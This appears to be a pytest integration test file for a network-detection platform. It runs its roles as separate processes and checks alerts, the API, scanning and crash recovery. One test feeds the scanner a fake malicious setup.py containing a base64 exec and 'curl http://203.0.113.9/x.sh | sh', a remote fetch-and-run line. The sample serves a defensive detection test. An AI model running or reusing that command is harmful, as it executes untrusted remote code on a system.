"""Each role as a process of its own, on Kafka, the native protocol and PostgreSQL: from a capture to its alert."""

from __future__ import annotations

import hashlib
import json
import os
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from fengsui.blobs import FolderBlobs
from fengsui.cli import roll
from fengsui.config import Settings
from fengsui.registry.database import open_registry
from fengsui.registry.models import alert, presence, situation
from situation import submissions
from tests.support.kafka import bootstrap
from tests.support.native import Endpoint
from tests.support.postgres import database

SCENARIOS = Path(__file__).parent / "scenarios"
TOKEN = "a-token-for-the-roles"
ROLES = ("sink", "detect", "hunt", "situation", "collect", "pack", "scan-worker")


class Platform:
    """The processes of the roles, their engines, and what has come of them."""

    def __init__(self, folder: Path) -> None:
        self.folder, self.watched = folder, folder / "watched"
        self.watched.mkdir()
        self.endpoint = Endpoint(folder / "store")
        self.registry_url = database()
        self.registry = open_registry(self.registry_url)
        self.prefix = f"{secrets.token_hex(4)}."
        self.environment = {
            "FENGSUI_KAFKA_BOOTSTRAP": bootstrap(), "FENGSUI_KAFKA_PREFIX": self.prefix,
            "FENGSUI_KAFKA_PARTITIONS": "2", "FENGSUI_CLICKHOUSE_URL": self.endpoint.url,
            "FENGSUI_REGISTRY_URL": self.registry_url, "FENGSUI_HUNT_INTERVAL": "1", "FENGSUI_ORG": "bank",
            "FENGSUI_TOKEN": TOKEN, "FENGSUI_KAFKA_PACK": "true",
        }  # fmt: skip
        self.processes: dict[str, subprocess.Popen[bytes]] = {}

    def start(self, role: str) -> None:
        folders = [str(self.watched)] if role == "collect" else []
        words = [sys.executable, "-m", "fengsui.cli", role, "--instance", "0", "--data", str(self.folder / "data")]
        words += folders
        with (self.folder / f"{role}.log").open("ab") as log:
            self.processes[role] = subprocess.Popen(words, stdout=log, stderr=log, env=os.environ | self.environment)

    def api(self) -> str:
        """The address of the API, started if it is not there."""
        if "api" not in self.processes:
            with socket.socket() as s:
                s.bind(("127.0.0.1", 0))
                self.port = s.getsockname()[1]
            words = [sys.executable, "-m", "fengsui.cli", "api", "--instance", "0", "--data", str(self.folder / "api")]
            with (self.folder / "api.log").open("ab") as log:
                self.processes["api"] = subprocess.Popen([*words, "--port", str(self.port)], stdout=log, stderr=log,
                                                         env=os.environ | self.environment)  # fmt: skip
        return f"http://127.0.0.1:{self.port}"

    def ask(self, path: str) -> Any:
        request = urllib.request.Request(f"{self.api()}{path}", headers={"authorization": f"Bearer {TOKEN}"})
        try:
            with urllib.request.urlopen(request, timeout=30) as answer:
                return json.loads(answer.read())
        except urllib.error.URLError:
            return None

    def alerts(self) -> dict[str, int]:
        with self.registry.connect() as db:
            return {r.rule: r.count for r in db.execute(select(alert).where(alert.c.queued))}

    def wait(self, what: Callable[[], Any], seconds: float = 90) -> Any:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for role, process in self.processes.items():
                assert process.poll() is None, f"{role} ended: {(self.folder / f'{role}.log').read_text()[-3000:]}"
            if found := what():
                return found
            time.sleep(0.2)
        tails = "\n".join(f"{r}: {(self.folder / f'{r}.log').read_text()[-1500:]}" for r in self.processes)
        raise AssertionError(f"it did not come:\n{tails}")

    def rows(self) -> tuple[int, int]:
        from fengsui.store.clickhouse import ClickHouseStore

        store = ClickHouseStore(Settings(clickhouse_url=self.endpoint.url))
        r = store.query("SELECT count() AS n, uniqExact(event_id) AS ids FROM flow").to_pylist()[0]
        store.close()
        return r["n"], r["ids"]

    def there(self) -> set[str]:
        """The roles that are on the roll."""
        from fengsui.bus.kafka import connect

        asked = Settings(kafka_bootstrap=(bootstrap(),), kafka_prefix=self.prefix, kafka_partitions=2)
        bus = connect(asked)
        found = {e.role for e, here in roll.read(bus, time.time()) if here}
        bus.close()
        return found

    def close(self) -> None:
        for process in self.processes.values():
            if process.poll() is None:
                process.kill()
                process.wait()
        self.registry.dispose()
        self.endpoint.close()


@pytest.fixture(scope="module")
def platform(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Platform]:
    p = Platform(tmp_path_factory.mktemp("roles"))
    for role in ROLES:
        p.start(role)
    p.wait(lambda: p.there() == set(ROLES))
    yield p
    p.close()


def put(p: Platform, name: str, as_name: str) -> None:
    shutil.copy(SCENARIOS / name, p.watched / f"{as_name}.part")
    (p.watched / f"{as_name}.part").rename(p.watched / as_name)


def test_a_log_becomes_an_alert_and_the_situation_through_every_role_and_each_is_on_the_roll(platform):
    put(platform, "beacon/conn.log", "conn.log")
    platform.wait(lambda: "beacon" in platform.alerts())
    n, ids = platform.rows()
    assert n == ids >= 768
    with platform.registry.connect() as db:
        assert db.execute(select(presence)).first() is not None
        assert platform.wait(lambda: db.execute(select(situation)).first() is not None or db.rollback())
    platform.wait(lambda: platform.there() >= set(ROLES))


def test_the_api_serves_what_the_roles_have_made_and_tells_how_they_are(platform):
    put(platform, "beacon/conn.log", "again.log")
    (seen,) = platform.wait(lambda: [a for a in (platform.ask("/api/v1/alerts") or {"items": []})["items"]
                                     if a["rule"] == "beacon"])  # fmt: skip
    detail = platform.ask(f"/api/v1/alerts/{seen['id']}")
    assert detail["evidence"], "its evidence comes from the store"
    told = platform.wait(lambda: (p := platform.ask("/api/v1/stats")["pipeline"]) and len(p["roles"]) > 8 and p)
    assert {"sink · 0", "fold · 0", "collect · 0"} <= {r["name"] for r in told["roles"]}
    assert {e["group"] for e in told["lag"]} >= {"sink", "fold", "presence"}
    assert platform.ask("/healthz") is not None


def submitted(p: Platform, content: bytes, name: str) -> str:
    """Content in the blob store of the roles, and its row."""
    sha256 = hashlib.sha256(content).hexdigest()
    FolderBlobs(p.folder / "data" / "blobs").within("bank").put(sha256, content)
    with p.registry.begin() as db:
        new = submissions.New("bank", name, len(content), sha256, "package")
        return submissions.submit(db, new, "me", int(time.time() * 1e6))


def scanned(p: Platform, key: str) -> Any:
    def done() -> Any:
        with p.registry.connect() as db:
            row = submissions.find(db, key)
        return row if row.state == submissions.DONE else None

    return p.wait(done)


def test_software_that_is_handed_in_is_scanned_and_told_to_the_queue_also_by_a_worker_that_comes_back(platform):
    bad = b"import os, base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('curl http://203.0.113.9/x.sh | sh')\n"
    assert scanned(platform, submitted(platform, bad, "setup.py")).verdict == "malicious"
    platform.wait(lambda: "software.submission" in platform.alerts())
    process = platform.processes.pop("scan-worker")
    process.kill()
    process.wait()
    key = submitted(platform, b"x = 1\n", "fine.py")
    platform.start("scan-worker")
    assert scanned(platform, key).verdict == "clean"


def test_a_role_that_is_killed_comes_back_to_its_seat_and_loses_and_doubles_nothing(platform):
    before = platform.rows()[0]
    for role in ("sink", "hunt", "situation", "detect", "collect", "pack", "scan-worker"):
        process = platform.processes.pop(role)
        process.kill()
        process.wait()
    put(platform, "port_scan/input.pcap", "scan.pcap")
    for role in ROLES:
        platform.start(role)
    platform.wait(lambda: "scan_vertical" in platform.alerts())
    n, ids = platform.rows()
    assert n == ids > before


def test_a_role_that_is_told_to_stop_ends_in_peace_and_leaves_the_roll(platform):
    process = platform.processes.pop("detect")
    process.send_signal(signal.SIGTERM)
    assert process.wait(40) == 0
    assert "detect" not in platform.there()
    platform.start("detect")
    platform.wait(lambda: "detect" in platform.there())


def test_a_role_without_kafka_says_what_to_do(tmp_path):
    words = [sys.executable, "-m", "fengsui.cli", "sink", "--data", str(tmp_path)]
    ran = subprocess.run(words, capture_output=True, text=True, check=False, timeout=60)
    assert ran.returncode == 3
    assert "kafka_bootstrap" in ran.stderr
